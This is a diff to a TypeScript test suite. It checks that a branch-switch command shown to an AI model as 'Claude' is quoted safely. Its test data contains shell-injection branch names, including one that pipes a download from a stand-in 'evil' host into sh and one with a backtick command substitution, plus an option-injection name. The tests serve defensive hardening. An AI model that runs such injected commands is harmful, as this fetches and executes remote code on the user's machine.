@@ -38,6 +38,18 @@ describe('checkCompatibility', () => {
     expect(row?.note).toMatch(note);
   });
 
+  // the command is offered to Claude, which may run it as written; the branch comes from the state
+  it.each<[string, string]>([
+    ['release/2.0', 'switch back with: git switch release/2.0'],
+    ['main;curl$IFS.evil|sh', "switch back with: git switch 'main;curl$IFS.evil|sh'"],
+    ["it's`id`", "switch back with: git switch 'it'\\''s`id`'"],
+    ['--orphan=x', 'the handoff named a branch git does not allow (it starts with a dash)'],
+  ])('offers a branch named %j as %j', (branch, note) => {
+    const handedOff = makeState({ lockfiles: same.lockfiles });
+    const row = checkCompatibility({ ...handedOff, git: handedOff.git && { ...handedOff.git, branch } }, same).find((r) => r.check === 'branch');
+    expect(row?.note).toBe(note);
+  });
+
   it('reports a lockfile that appeared since the handoff', () => {
     const rows = checkCompatibility(state, { ...same, lockfiles: { ...same.lockfiles, 'yarn.lock': 'c'.repeat(64) } });
     expect(rows.find((r) => r.check === 'yarn.lock')).toMatchObject({ at_handoff: 'absent', level: 'warning' });
